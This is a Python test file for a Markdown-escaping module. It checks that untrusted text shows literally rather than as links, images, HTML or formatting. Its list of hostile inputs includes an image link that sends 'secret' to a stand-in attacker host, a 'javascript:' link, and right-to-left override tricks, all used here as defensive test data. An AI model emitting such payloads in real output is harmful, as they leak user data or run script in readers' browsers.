"""Text from outside is shown as it is written, whatever Markdown would make of it."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from frame.escape import JOINER, literal, literal_lines, prose

HOSTILE = (
    "![x](http://evil.example/?d=secret)",
    "[click](javascript:alert(1))",
    ":green-badge[PAID]",
    ":material/check: done",
    "pay $5 or US$6 now$",
    "$x$",
    "<b>bold</b>",
    "1. x",
    "1) x",
    "- x",
    "# x",
    "> x",
    "    code",
    "a | b\n--- | ---",
    "https://evil.example www.evil.example me@evil.example",
    "x -> y -- z >= w",
    "**bold** _it_ ~~no~~ `code`",
    ":tada: &amp; &lt;",
    "x\n===",
    "\\* back",
)


def shown(markdown: str) -> str:
    """What a person sees of escaped text: backslashes before punctuation and joiners are not seen."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown).replace(JOINER, "")


def unescaped_marks(markdown: str) -> str:
    """The punctuation that no backslash stands before."""
    return "".join(re.findall(r"[\\`*_{}\[\]()<>#+\-.!|~$:^=&@/'\"]", re.sub(r"\\.", "", markdown)))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_label_shows_hostile_text_as_it_is(text: str) -> None:
    assert shown(literal(text)) == " ".join(text.split())
    assert unescaped_marks(literal(text)) == ""


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Cf", "Zl", "Zp"))))
def test_no_mark_of_any_text_stays_a_mark(text: str) -> None:
    assert unescaped_marks(literal(text)) == ""
    assert shown(literal(text)) == " ".join(text.split())


@pytest.mark.parametrize("address", ["https://evil.example", "http://a.b", "www.evil.example", "me@evil.example"])
def test_an_address_is_broken_so_that_nothing_makes_it_a_link(address: str) -> None:
    assert JOINER in literal(address)


def test_a_block_keeps_its_lines_and_its_indent() -> None:
    assert shown(literal_lines("one\n    two\n\n1. three")).split("  \n") == [
        "one",
        "\u00a0\u00a0\u00a0\u00a0two",
        "\u00a0",
        "1. three",
    ]


def test_letters_that_turn_text_around_are_made_visible() -> None:
    assert literal("pay \u202e005\u202c") == "pay \ufffd005\ufffd"


def test_a_reply_keeps_its_bold_figures_and_bullets() -> None:
    assert prose("You spent **₹500.00** on:\n- Food\n- Travel") == (
        "You spent **₹500\\.00** on\\:  \n- Food  \n- Travel"
    )


def test_what_a_reply_quotes_with_backslashes_is_never_a_mark() -> None:
    assert prose(r"Saved \*\*PAID\*\* \- \!\[x\]\(y\)") == r"Saved \*\*PAID\*\* \- \!\[x\]\(y\)"
    assert prose(r"\- no bullet") == r"\- no bullet"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_reply_draws_nothing_but_bold_and_bullets(text: str) -> None:
    marks = unescaped_marks(prose(text).replace("**", "").removeprefix("- "))
    assert marks == ""


def test_paragraphs_stay_apart() -> None:
    assert prose("one\n\n\ntwo\n") == "one\n\ntwo"
